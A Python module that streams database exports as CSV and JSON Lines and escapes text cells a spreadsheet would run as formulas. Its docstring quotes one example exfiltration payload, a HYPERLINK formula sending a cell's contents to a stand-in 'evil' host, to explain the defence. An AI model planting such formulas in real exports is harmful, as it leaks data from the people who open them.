"""CSV and JSON Lines, encoded chunk by chunk as the rows arrive.

Each function takes the exporter's row chunks and yields UTF-8 byte strings
of a few dozen kilobytes, so a response or a file grows while the database
cursor advances and memory stays flat whatever the row count.

Formula injection: a spreadsheet program runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, in some, a tab or carriage return) as a formula,
so a text cell such as ``=HYPERLINK("http://evil/?"&A1)`` typed by one user
would run on another user's machine when they open the export. Every text
cell that starts with one of those characters gets a leading ``'``, the
escape spreadsheet programs themselves use for "this is text". Numbers,
dates and booleans are written as they are (a negative number stays one).
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import json
import uuid
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from rustforge.contrib.export.columns import BOOL, DATE, DATETIME, NUMBER, BoundColumn

# Full-width forms too: some spreadsheet programs fold them to the ASCII ones.
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
BOM = b"\xef\xbb\xbf"
_FLUSH_AT = 64 * 1024


def neutralise(value: Any) -> Any:
    """``'`` before a text value that a spreadsheet would run as a formula."""
    if isinstance(value, str) and value and value[0] in FORMULA_START:
        return "'" + value
    return value


def _neutralise_column(values: list) -> list:
    return [f"'{v}" if v.__class__ is str and v and v[0] in FORMULA_START else v
            for v in values]


def _bool_column(values: list) -> list:
    return [None if v is None else ("true" if v else "false") for v in values]


def csv_chunks(columns: list[BoundColumn], chunks: Iterable[list[list]], *,
               bom: bool = False, header: bool = True) -> Iterator[bytes]:
    """The CSV file (RFC 4180, CRLF line ends) as byte chunks, from column chunks
    (``Exporter.column_chunks``)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if header:
        writer.writerow([neutralise(c.label) for c in columns])
    # Numbers, dates and datetimes cannot start with a formula character as text.
    fixes: list[tuple[int, Callable[[list], list]]] = [
        (i, _bool_column if c.kind == BOOL else _neutralise_column)
        for i, c in enumerate(columns) if c.kind not in (NUMBER, DATE, DATETIME)]
    pending = (BOM if bom else b"") + buffer.getvalue().encode()
    buffer.seek(0)
    buffer.truncate()
    for values in chunks:
        for index, fix in fixes:
            values[index] = fix(values[index])
        writer.writerows(zip(*values, strict=True))
        if buffer.tell() >= _FLUSH_AT:
            yield pending + buffer.getvalue().encode()
            pending = b""
            buffer.seek(0)
            buffer.truncate()
    tail = pending + buffer.getvalue().encode()
    if tail:
        yield tail


def json_default(value: Any) -> Any:
    """How JSON Lines writes what json cannot: dates ISO 8601, decimals as strings."""
    if isinstance(value, (dt.datetime, dt.date, dt.time)):
        return value.isoformat()
    if isinstance(value, (decimal.Decimal, uuid.UUID)):
        return str(value)
    if isinstance(value, (bytes, bytearray, memoryview)):
        return bytes(value).hex()
    return str(value)


def jsonl_chunks(columns: list[BoundColumn], chunks: Iterable[list[tuple]]) -> Iterator[bytes]:
    """One JSON object per line, keyed by column path."""
    keys = [c.path for c in columns]
    encode = json.JSONEncoder(default=json_default, ensure_ascii=False,
                              separators=(",", ":")).encode
    for rows in chunks:
        lines = [encode(dict(zip(keys, row, strict=True))) for row in rows]
        if lines:
            lines.append("")
            yield "\n".join(lines).encode()
